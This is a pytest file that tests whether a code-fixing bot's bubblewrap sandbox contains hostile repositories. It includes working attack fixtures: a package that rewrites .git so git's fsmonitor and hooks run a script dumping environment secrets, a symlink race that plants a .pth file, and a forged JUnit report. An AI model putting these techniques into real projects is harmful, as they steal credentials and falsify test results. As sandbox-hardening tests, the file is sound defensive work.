"""Hostile repositories, played as an attacker would: code under test stays in the sandbox.

Each attack is a real repository in tmp_path whose own code (run at import or by its
tests) tries to reach past the sandbox; the night runs as `nightcrew run` in its own
process, with canary secrets in its environment, and real git and bubblewrap. Every test
asserts that no canary reached a file outside the sandbox, that the user's checkout is
untouched, and that no branch or patch holds a file the fix did not mean to change.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from bot.sandbox.bwrap import prepare
from bot.verify.runs import run_tests
from tests.conftest import git, init_repo, needs_bwrap
from tests.fakes.messages_api import FakeMessagesAPI, Request, reply, tool_use

CANARIES = {
    "GITHUB_TOKEN": "ghs_canaryAttackToken0000001",
    "ANTHROPIC_API_KEY": "sk-ant-canaryAttackKey0000001",
    "AWS_SECRET_ACCESS_KEY": "canaryAttackAwsSecret0000001",
}
CORE = """\
def names(xs):
    return sorted(list(xs))
"""
FIXED_CORE = CORE.replace("sorted(list(xs))", "sorted(xs)")
CALC = """\
def total(items):
    snapshot = list(items)
    return sum(snapshot)
"""
TESTS = """\
from pkg.calc import total
from pkg.core import names


def test_names():
    assert names(["b", "a"]) == ["a", "b"]


def test_total():
    assert total([1, 2, 3]) == 6
"""

# Attack 1. At import (so in the baseline, the import-origin check, an agent's run_checks and
# every verification run) the package points its tree's `.git` at a git folder of its own,
# whose config runs a script from git's fsmonitor, external diff and hooks. The script
# writes the environment it gets to LEAKS, which only an unsandboxed process can write.
HIJACK = """\
import os as _os
import pathlib as _pathlib
import shutil as _shutil

_tree = _pathlib.Path(__file__).resolve().parents[1]
try:
    _real = _pathlib.Path((_tree / ".git").read_text().split("gitdir:", 1)[1].strip())
    _common = (_real / (_real / "commondir").read_text().strip()).resolve()
    _evil = _tree / ".evil"
    (_evil / "objects" / "info").mkdir(parents=True, exist_ok=True)
    (_evil / "refs").mkdir(exist_ok=True)
    (_evil / "hooks").mkdir(exist_ok=True)
    _shutil.copyfile(_real / "HEAD", _evil / "HEAD")
    _shutil.copyfile(_real / "index", _evil / "index")
    (_evil / "objects" / "info" / "alternates").write_text(f"{_common / 'objects'}\\n")
    _script = _evil / "run.sh"
    _script.write_text('#!/bin/sh\\nenv > "LEAKS/leak-$$"\\nexit 0\\n')
    _script.chmod(0o755)
    for _hook in ("pre-commit", "post-commit", "post-checkout", "pre-auto-gc"):
        _shutil.copyfile(_script, _evil / "hooks" / _hook)
        (_evil / "hooks" / _hook).chmod(0o755)
    (_evil / "config").write_text(
        "[core]\\n\\trepositoryformatversion = 0\\n"
        f"\\tfsmonitor = {_script}\\n\\thooksPath = {_evil / 'hooks'}\\n"
        f"[diff]\\n\\texternal = {_script}\\n"
    )
    with open(_tree / ".git", "w") as _dot_git:
        _dot_git.write(f"gitdir: {_evil}\\n")
except OSError:
    pass
"""

# Attack 5. At import the package writes files the guard would refuse (a workflow, a new
# cache file); its tests write one more in the verification tree.
PLANTS = """\
import pathlib as _pathlib

_tree = _pathlib.Path(__file__).resolve().parents[1]
try:
    (_tree / ".github" / "workflows").mkdir(parents=True, exist_ok=True)
    (_tree / ".github" / "workflows" / "planted.yml").write_text("on: push\\n")
    (_tree / "pkg" / "cache.dat").write_text("planted at import\\n")
except OSError:
    pass
"""
PLANTING_TESTS = (
    TESTS
    + """

def test_writes_into_its_tree():
    import pathlib

    (pathlib.Path(__file__).resolve().parents[1] / "written_by_tests.txt").write_text("x")
"""
)


def make(tmp_path: Path, init: str, tests: str = TESTS) -> Path:
    config = "version: 1\nsandbox: {mode: required}\ntest_command: python -m pytest -q\n"
    return init_repo(
        tmp_path / "repo",
        {
            "pkg/__init__.py": init,
            "pkg/core.py": CORE,
            "pkg/calc.py": CALC,
            "tests/test_core.py": tests,
            ".github/nightcrew.yml": config,
        },
    )


def run_night(repo: Path, recipe: str, extra_env: dict[str, str] | None = None) -> dict:
    env = {**os.environ, **CANARIES, **(extra_env or {})}
    done = subprocess.run(
        [
            *(sys.executable, "-m", "bot.cli", "run", "--repo", str(repo), "--json", "--quiet"),
            *("--recipe", recipe, "--out", str(repo.parent / "out"), "--jobs", "2"),
        ],
        env=env,
        capture_output=True,
        text=True,
        timeout=600,
        check=False,
    )
    assert done.returncode in (0, 1), done.stderr
    return json.loads(done.stdout)


def canaries_in_files(root: Path) -> list[str]:
    found = []
    for path in root.rglob("*"):
        if path.is_file() and not path.is_symlink():
            data = path.read_bytes()
            found += [f"{path}: {k}" for k, v in CANARIES.items() if v.encode() in data]
    return found


def assert_nothing_escaped(repo: Path, report: dict, leaks: Path | None = None) -> None:
    assert report["sandbox"].startswith("bubblewrap"), report["sandbox"]
    if leaks is not None:
        assert sorted(p.name for p in leaks.iterdir()) == []
    assert canaries_in_files(repo.parent) == []
    assert git(repo, "status", "--porcelain", "--untracked-files=all") == ""
    for fix in report["fixes"]:
        if fix["branch"] and fix["status"] == "verified":
            changed = git(repo, "diff", "--name-only", "-z", "main", fix["branch"]).split("\0")
            assert changed == [fix["path"], ""], fix
            patch = Path(fix["patch"]).read_text(encoding="utf-8")
            assert patch.count("diff --git ") == 1 and f"a/{fix['path']}" in patch, patch


# --------------------------------------------------------------------------- attack 1


def agent_fix(request: Request) -> dict:
    """A well-behaved agent: fix the copy, run the checks (which import pkg), finish."""
    if request.turn == 0 and "pkg/calc.py" not in json.dumps(request.body["messages"][0]):
        return reply(tool_use("give_up", reason="not this one"))
    if request.turn == 0:
        old = "    snapshot = list(items)\n    return sum(snapshot)\n"
        edit = {"path": "pkg/calc.py", "old_text": old, "new_text": "    return sum(items)\n"}
        return reply(tool_use("edit_file", **edit))
    if request.turn == 1:
        return reply(tool_use("run_checks"))
    return reply(tool_use("finish", summary="Used the items directly."))


@needs_bwrap
def test_a_rewritten_dot_git_runs_nothing_after_the_tests_or_an_agents_checks(tmp_path):
    leaks = tmp_path / "leaks"
    leaks.mkdir()
    repo = make(tmp_path, HIJACK.replace("LEAKS", str(leaks)))
    with FakeMessagesAPI(agent_fix) as fake:
        report = run_night(repo, "unnecessary-copies-deep", {"ANTHROPIC_BASE_URL": fake.url})
    # The agent's run_checks really ran the package's code in its tree.
    assert any("run_checks" in json.dumps(r.body) and r.tool_results for r in fake.requests)
    (fix,) = [f for f in report["fixes"] if f["status"] != "skipped"]
    # The checks ran in a scratch copy of the agent's tree, so what they planted there (the
    # `.evil` folder; the `.git` file itself stays read-only) is not part of the fix, and no
    # planted script ran: the fix verifies, and its branch holds the agent's edit alone.
    assert fix["path"] == "pkg/calc.py"
    assert (fix["status"], fix["reason_kind"]) == ("verified", "published"), fix["reason"]
    assert_nothing_escaped(repo, report, leaks)

    report = run_night(repo, "unnecessary-copies")  # a deterministic fixer, the same tree code
    (fix,) = report["fixes"]
    assert (fix["path"], fix["status"]) == ("pkg/core.py", "verified"), fix
    assert_nothing_escaped(repo, report, leaks)
    assert git(repo, "show", f"{fix['branch']}:pkg/core.py") == FIXED_CORE


# --------------------------------------------------------------------------- attack 5


@needs_bwrap
def test_files_written_at_import_or_by_tests_never_reach_the_fix(tmp_path):
    repo = make(tmp_path, PLANTS, PLANTING_TESTS)
    report = run_night(repo, "unnecessary-copies")
    (fix,) = report["fixes"]
    assert (fix["path"], fix["status"]) == ("pkg/core.py", "verified"), fix
    assert_nothing_escaped(repo, report)
    commit = git(repo, "show", "--name-only", "--format=", fix["branch"]).split()
    assert commit == ["pkg/core.py"]
    patch = Path(fix["patch"]).read_text(encoding="utf-8")
    for planted in ("planted.yml", "cache.dat", "written_by_tests"):
        assert planted not in patch
    assert not (repo / ".github" / "workflows").exists()


# --------------------------------------------------------------------------- attack 2


# Run A watches the log folder and swaps every log that appears for a symlink to a `.pth`
# file outside (which the next interpreter start would execute); run B starts meanwhile.
SWAPPER = """\
import os, sys, time

log_dir, target = sys.argv[1], sys.argv[2]
seen = set(os.listdir(log_dir))
open("ready", "w").close()
deadline = time.monotonic() + 30
swapped = 0
while time.monotonic() < deadline and not os.path.exists("stop"):
    for name in os.listdir(log_dir):
        if name in seen:
            continue
        seen.add(name)
        path = os.path.join(log_dir, name)
        try:
            os.symlink(target, path + ".tmp")
            os.rename(path + ".tmp", path)
            swapped += 1
        except OSError as exc:
            print("refused", name, exc.errno)
print("swapped", swapped)
"""
# What run B prints: one line a `.pth` file would execute.
PRINTER = "print(\"import os; open(os.environ.get('PWNED', '/dev/null'), 'w').write('x')\")\n"

# A pytest run that, once pytest has written its JUnit report, puts a symlink to a forged
# report outside in its place: Nightcrew must not read it back through the link.
FORGING_CONFTEST = """\
import os


def pytest_unconfigure(config):
    xml = config.option.xmlpath
    if xml:
        os.replace(xml, xml + ".real")
        os.symlink(os.environ["FORGED"], xml)
"""
FORGED = (
    '<?xml version="1.0"?><testsuites><testsuite name="pytest" tests="999" failures="0" '
    'errors="0" skipped="0"></testsuite></testsuites>'
)


@pytest.fixture
def box(tmp_path: Path):
    repo = init_repo(tmp_path / "boxrepo", {"a.py": "x = 1\n"})
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    return prepare("required", repo=repo, scratch=scratch)


@needs_bwrap
def test_a_run_cannot_turn_another_runs_log_into_a_symlink(tmp_path, box):
    site = tmp_path / "site"
    site.mkdir()
    target = site / "evil.pth"
    target.write_text("# untouched\n")
    log_dir = tmp_path / "logs"
    log_dir.mkdir()
    trees = {name: tmp_path / name for name in ("a", "b")}
    for tree in trees.values():
        tree.mkdir()
    (trees["a"] / "swap.py").write_text(SWAPPER)
    (trees["b"] / "printer.py").write_text(PRINTER)
    ready, stop = trees["a"] / "ready", trees["a"] / "stop"
    env = {**os.environ, **CANARIES}
    results = {}

    def run(name: str, command: str) -> None:
        results[name] = run_tests(command, trees[name], env, 60, log_dir, name, sandbox=box)

    for attempt in range(3):  # the race is timing: give it more than one chance
        ready.unlink(missing_ok=True)
        stop.unlink(missing_ok=True)
        swapper = threading.Thread(target=run, args=("a", f"python swap.py {log_dir} {target}"))
        swapper.start()
        deadline = time.monotonic() + 30
        while not ready.exists() and time.monotonic() < deadline:
            time.sleep(0.01)
        assert ready.exists(), results
        run("b", "python printer.py")
        stop.touch()
        swapper.join()
        assert target.read_text() == "# untouched\n", f"written through the link ({attempt})"
        log_b = results["b"].log_path
        assert log_b is not None and not log_b.is_symlink() and log_b.parent == log_dir
        assert "import os" in log_b.read_text()
        assert "swapped 0" in results["a"].output_tail, results["a"].output_tail
    assert canaries_in_files(tmp_path) == []


@needs_bwrap
def test_a_junit_report_swapped_for_a_symlink_is_not_read(tmp_path, box):
    tree = tmp_path / "tree"
    (tree / "tests").mkdir(parents=True)
    (tree / "conftest.py").write_text(FORGING_CONFTEST)
    (tree / "tests" / "test_one.py").write_text("def test_one():\n    assert True\n")
    forged = tmp_path / "forged.xml"
    forged.write_text(FORGED)
    env = {**os.environ, "FORGED": str(forged)}
    run = run_tests("python -m pytest -q", tree, env, 60, tmp_path / "logs", sandbox=box)
    assert run.junit is None or run.junit.tests != 999
    assert run.junit_problem == "pytest wrote no JUnit report"
    assert forged.read_text() == FORGED


WRITE_GIT = """\
import sys

for path in sys.argv[1:]:
    try:
        with open(path, "a") as fh:
            fh.write("planted\\n")
        print("WROTE", path)
    except OSError as exc:
        print("DENIED", path, exc.errno)
"""


@needs_bwrap
def test_a_worktrees_git_metadata_is_read_only_in_the_sandbox(tmp_path, box):
    from bot import gitops
    from bot.verify.runs import run_command

    repo = gitops.open_repo(init_repo(tmp_path / "repo", {"a.py": "x = 1\n"}))
    with gitops.worktree(repo, repo.head.commit.hexsha, "meta") as tree:
        git_dir = gitops.worktree_git_dir(tree)
        assert git_dir is not None
        targets = [tree / ".git", git_dir / "HEAD", tree / "a.py"]
        argv = [sys.executable, "-c", WRITE_GIT, *map(str, targets)]
        result = run_command(argv, tree, os.environ, 60, sandbox=box)
        lines = result.output_tail.splitlines()
        assert lines == [
            f"DENIED {targets[0]} 30",
            f"DENIED {targets[1]} 30",
            f"WROTE {targets[2]}",
        ]
        assert (tree / ".git").read_text() == f"gitdir: {git_dir}\n"
